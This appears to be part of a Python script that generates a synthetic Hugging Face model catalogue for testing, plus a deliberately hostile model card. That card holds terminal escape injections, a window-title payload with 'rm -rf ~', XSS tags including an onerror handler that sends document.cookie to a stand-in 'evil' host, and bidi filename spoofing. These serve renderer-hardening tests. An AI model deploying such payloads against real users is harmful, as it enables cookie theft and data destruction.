        tags = build_tags(sp, lib=lib, mt=mt, pipe=pipe, card_tags=card_tags, conv=conv, lang=lang, ds=ds,
                          arxiv=arxiv, base=base if base != rid else None, rel=rel, lic=lic, custom=custom,
                          fmt_tags=fmt_tags, extra_end=extra_end)
        cd = card_data_from_spec(sp, lic=lic, lic_name=lic_name, lic_link=lic_link, lang=lang,
                                 base=base if base != rid else None, rel=rel, pipe=pipe, lib=lib,
                                 tags=[x for x in card_tags if x not in (lib,)], ds=ds)
        obj.update(gated=sp.get("gated", False), library_name=lib, pipeline_tag=pipe, tags=tags)
        if cfg and not sp.get("mistral_only"):
            hub_cfg = {"architectures": cfg["architectures"], "model_type": cfg["model_type"]}
            if "quantization_config" in cfg:
                qc = cfg["quantization_config"]
                hub_cfg["quantization_config"] = {k: qc[k] for k in ("quant_method", "bits") if k in qc}
            if bos or eos:
                hub_cfg["tokenizer_config"] = {k: v for k, v in (("bos_token", bos), ("eos_token", eos)) if v}
            obj["config"] = hub_cfg
            if lib in ("transformers", "sentence-transformers"):
                auto = {"text-generation": "AutoModelForCausalLM", "image-text-to-text": "AutoModelForImageTextToText",
                        "text-classification": "AutoModelForSequenceClassification"}.get(pipe, "AutoModel")
                ti = {"auto_model": auto, "pipeline_tag": pipe,
                      "processor": "AutoProcessor" if sp.get("vl") else "AutoTokenizer"}
                if custom:
                    ti["custom_class"] = auto
                obj["transformersInfo"] = ti
        if sp.get("st", True):
            obj["safetensors"] = {"parameters": dict(pd), "total": sum(pd.values())}
        lic_for_check = lic

    # card front matter wins when we ship a card for this repo (keeps catalogue and cards consistent)
    if card_meta is not None:
        assert card_meta.get("license") == lic_for_check, (rid, card_meta.get("license"), lic_for_check)
        spec_base = sp.get("base") if sp.get("base") != rid else None
        assert card_meta.get("base_model") == spec_base, (rid, card_meta.get("base_model"), spec_base)
        cd = dict(card_meta)
        if "model-index" in card_meta:
            obj["model-index"] = card_meta["model-index"]

    siblings = [entry(rid, n, s) for n, s in files]
    created, modified = ts(sp["c"], rid, "c"), ts(sp["m"], rid, "m")
    if modified < created:
        created, modified = modified, created
    age = max(1, days_between(sp["m"], REF_DAY))
    age_c = max(30, days_between(sp["c"], REF_DAY))
    trending = int(sp["lk"] ** 0.6 * math.exp(-age_c / 400) * r.uniform(0.6, 1.4)
                   + sp["lk"] / 10 * math.exp(-age / 60))
    out = {
        "id": rid,
        "author": author,
        "sha": h("sha", rid),
        "createdAt": created,
        "lastModified": modified,
        "private": False,
        "disabled": False,
        "gated": obj.pop("gated"),
        "downloads": int(sp["dl"] * r.uniform(0.93, 1.07)),
        "downloadsAllTime": int(sp["dl"] * (1 + age_c / 30 * r.uniform(0.5, 0.9))),
        "likes": sp["lk"],
        "trendingScore": trending,
        "library_name": obj.pop("library_name"),
        "pipeline_tag": obj.pop("pipeline_tag"),
        "tags": obj.pop("tags"),
        "cardData": cd,
    }
    out.update(obj)
    out["siblings"] = siblings
    out["usedStorage"] = sum(s for _, s in files)
    out["config_json"] = sp.get("config_json_override", cfg) if kind != "gguf" else None
    if sp.get("mistral_only"):
        out["config_json"] = by_id["mistral-community/pixtral-12b"]["cfg"]
    return out


# --------------------------------------------------------------------------------------------
# the hostile card (needs literal ESC bytes, so it is generated here rather than hand-written)
# --------------------------------------------------------------------------------------------
HOSTILE_ID = "quantlord420/Qwen2.5-7B-Instruct-Uncensored-ULTRA-GGUF"
ESC = "\x1b"


def write_hostile_card() -> None:
    lines = [
        "---",
        "base_model: Qwen/Qwen2.5-7B-Instruct",
        "tags:",
        "- uncensored",
        "- roleplay",
        "- not-for-all-audiences",
        "pipeline_tag: text-generation",
        "---",
        "",
        "# [bold red]PWNED[/bold red] Qwen2.5-7B-Instruct ULTRA Uncensored GGUF",
        "",
        f"{ESC}[2J{ESC}[H{ESC}[31mThis line is red if your renderer passes raw ANSI through.{ESC}[0m",
        "",
        "## About",
        "",
        "Quantised from my own merge of a popular 7B chat model. [link=http://x]click[/link] for the",
        "full story, or [blink]look here[/blink] and [reverse]here[/reverse].",
        f"Download mirror: {ESC}]8;;http://evil{ESC}\\link{ESC}]8;;{ESC}\\ (OSC 8 hyperlink).",
        f"Window title hijack attempt: {ESC}]0;rm -rf ~{ESC}\\\\ and a bell {chr(7)} character.",
        "",
        "<script>alert('xss')</script>",
        "<img src=x onerror=\"fetch('http://evil/'+document.cookie)\">",
        "<iframe src=\"http://evil/frame\"></iframe>",
        "",
        "## Files",
        "",
        "| file | size |",
        "|------|------|",
        "| qwen2.5-7b-instruct-uncensored-ultra.Q4_K_M.gguf | 4.7 GB |",
        "| qwen2.5-7b-instruct-uncensored-ultra.Q5_K_M.gguf | 5.4 GB |",
        "| qwen2.5-7b-instruct-uncensored-ultra.Q8_0.gguf | 8.1 GB |",
        "",
        "## Prompt",
        "",
        "```",
        "<|im_start|>system",
        "[/] [bold]unbalanced markup [/italic] [[escaped]] \\[not a tag]",
        "<|im_end|>",
        "```",
        "",
        "Zero-width and bidi tricks: admin\u200b\u200bpanel, \u202eevil.exe\u202c, and a NUL-like \u2400.",
        "",
        "Very long unbroken token: " + "A" * 400,
        "",
        "## Notes",
        "",
        "No licence stated. No evaluation. Use at your own risk. [/]",
        "",
    ]
    p = CARDS / (HOSTILE_ID.replace("/", "__") + ".md")
    p.write_text("\n".join(lines), encoding="utf-8")


# --------------------------------------------------------------------------------------------
# main + validation
# --------------------------------------------------------------------------------------------
def main() -> int:
    CARDS.mkdir(exist_ok=True)
    write_hostile_card()
    by_id = {}
    for sp in SPECS:
        assert sp["id"] not in by_id, f"duplicate id {sp['id']}"
        by_id[sp["id"]] = sp
    objs = [build_one(sp, by_id) for sp in SPECS]
    with OUT.open("w", encoding="utf-8") as f:
        for o in objs:
            f.write(json.dumps(o, ensure_ascii=False, separators=(",", ":")) + "\n")
    return validate(by_id)


def validate(by_id: dict) -> int:
    from huggingface_hub import ModelInfo

    lines = OUT.read_text(encoding="utf-8").splitlines()
    objs = [json.loads(x) for x in lines]
    ids = [o["id"] for o in objs]
    assert len(ids) == len(set(ids)), "ids must be unique"
    for o in objs:
        mi = ModelInfo(**{k: v for k, v in o.items() if k != "config_json"})
        assert mi.id == o["id"] and mi.siblings and mi.created_at and mi.last_modified
        assert len(o["sha"]) == 40
        assert o["usedStorage"] == sum(s["size"] for s in o["siblings"])
        if o.get("gguf"):
            assert "config" not in o and "safetensors" not in o
            assert o["gguf"]["total"] > 1e8 and o["gguf"]["context_length"]
            assert any(s["rfilename"].endswith(".gguf") for s in o["siblings"])
        if o.get("safetensors"):
            assert o["safetensors"]["total"] == sum(o["safetensors"]["parameters"].values())
        if o["pipeline_tag"] in ("text-generation", "image-text-to-text") and not o.get("gguf"):
            assert o["config_json"], f"config_json missing for {o['id']}"
    gguf = [o for o in objs if o.get("gguf")]
    emb = [o for o in objs if by_id[o["id"]]["kind"] == "emb"]
    vl = [o for o in objs if o["pipeline_tag"] == "image-text-to-text"]
    gated = [o for o in objs if o["gated"]]
    nolic = [o for o in objs if not (o.get("cardData") or {}).get("license")]
    nc = [o for o in objs if (o.get("cardData") or {}).get("license") == "cc-by-nc-4.0"]
    gguf_base_present = [o for o in gguf if o["cardData"].get("base_model") in by_id]
    assert len(objs) >= 160, len(objs)
    assert len(gguf) >= 30, len(gguf)
    assert len(emb) >= 10, len(emb)
    assert len(vl) >= 10, len(vl)
    assert len(gated) >= 5, len(gated)
    assert len(nolic) >= 3, len(nolic)
    assert len(gguf_base_present) == len(gguf), [o["id"] for o in gguf if o not in gguf_base_present]

    # cards
    cards = sorted(CARDS.glob("*.md"))
    card_ids = [c.name[:-3].replace("__", "/") for c in cards]
    missing = [c for c in card_ids if c not in by_id]
    assert not missing, f"cards without catalogue entry: {missing}"
    assert len(cards) >= 24, len(cards)

    fam = Counter(classify_family(i, by_id) for i in ids)
    fmt = Counter(fmt_of(by_id[i]) for i in ids)
    pipe = Counter(o["pipeline_tag"] for o in objs)
    lic = Counter((o.get("cardData") or {}).get("license") or "<none>" for o in objs)
    print(f"wrote {OUT.relative_to(HERE.parent)}: {len(objs)} models, {OUT.stat().st_size / 1e6:.2f} MB")
    print(f"  gguf={len(gguf)} embedding={len(emb)} vision-language={len(vl)} gated={len(gated)} "
          f"no-licence={len(nolic)} cc-by-nc-4.0={len(nc)}")
    print("  by family (all repos, repacks counted with their base): "
          + ", ".join(f"{k}={v}" for k, v in sorted(fam.items(), key=lambda kv: -kv[1])))
    fam_orig = Counter(classify_family(i, by_id) for i in ids if by_id[i]["kind"] != "gguf")
    fam_gguf = Counter(classify_family(i, by_id) for i in ids if by_id[i]["kind"] == "gguf")
    print("  by family, non-GGUF: " + ", ".join(f"{k}={v}" for k, v in fam_orig.most_common()))
    print("  by family, GGUF:     " + ", ".join(f"{k}={v}" for k, v in fam_gguf.most_common()))
    print("  by format: " + ", ".join(f"{k}={v}" for k, v in fmt.most_common()))
    print("  by pipeline: " + ", ".join(f"{k}={v}" for k, v in pipe.most_common()))
    print("  by licence: " + ", ".join(f"{k}={v}" for k, v in lic.most_common()))
    print(f"  cards: {len(cards)} in {CARDS.relative_to(HERE.parent)}")
    for c in cards:
        n = len(c.read_text(encoding="utf-8").splitlines())
        print(f"    {c.name} ({n} lines)")
    return 0


if __name__ == "__main__":
    sys.exit(main())
